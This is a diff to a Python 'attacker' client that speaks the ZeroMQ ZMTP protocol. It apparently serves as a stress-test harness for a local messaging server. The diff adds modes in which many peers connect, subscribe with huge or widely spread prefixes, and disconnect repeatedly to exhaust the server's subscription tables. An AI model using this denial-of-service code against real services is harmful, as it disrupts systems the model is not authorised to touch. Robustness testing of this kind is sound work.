@@ -1,11 +1,13 @@
 """A stranger in a process of its own: a TCP client that speaks as much ZMTP as it needs to do harm.
 
-``python attacker.py PORT SOCKET_TYPE ATTACK SECONDS [CONNECTIONS]``; prints bytes sent, and how often it was cut off.
-https://rfc.zeromq.org/spec/23/
+``python attacker.py PORT SOCKET_TYPE ATTACK SECONDS [CONNECTIONS]``; prints bytes sent, and how often it was cut off;
+or how often it left, where that is the attack. https://rfc.zeromq.org/spec/23/
 """
 
 from __future__ import annotations
 
+import itertools
+import os
 import socket
 import sys
 import time
@@ -73,12 +75,45 @@ def payload_of(attack: str) -> bytes:
     raise ValueError(attack)
 
 
+def subscriptions_of(attack: str, number: int) -> bytes:
+    """Return what one peer subscribes to that is soon going to leave."""
+    if attack == "leave-long":
+        return b"".join(frame(b"\x01" + os.urandom(500)) for _ in range(12))
+    if attack == "leave-wide":  # children that are far apart make large tables of each node
+        prefixes = itertools.product(b"\x00\xff", repeat=7)
+        return b"".join(frame(bytes([1, number, *prefix])) for prefix in prefixes)
+    return frame(b"\x01")
+
+
+def leave(port: int, kind: bytes, attack: str, end: float, connections: int) -> int:
+    """Come, subscribe, leave and come back; return how often."""
+    left = 0
+    while time.monotonic() < end:
+        peers: list[socket.socket] = []
+        try:
+            while len(peers) < connections and time.monotonic() < end:
+                peers.append(connect(port, kind))
+            for number, peer in enumerate(peers):
+                peer.sendall(subscriptions_of(attack, number))
+            time.sleep(0.005)
+        except OSError:
+            continue
+        finally:
+            left += len(peers)
+            for peer in peers:
+                peer.close()
+    return left
+
+
 def main() -> int:
     port, kind, attack = int(sys.argv[1]), sys.argv[2].encode(), sys.argv[3]
     end = time.monotonic() + float(sys.argv[4])
     sent = number = cut = 0
     peers: list[socket.socket] = []
     connections = int(sys.argv[5]) if len(sys.argv) > 5 else 1
+    if attack.startswith("leave"):
+        print(0, leave(port, kind, attack, end, connections))
+        return 0
     while time.monotonic() < end and cut < 3 * connections:  # it comes back twice
         try:
             while len(peers) < connections:
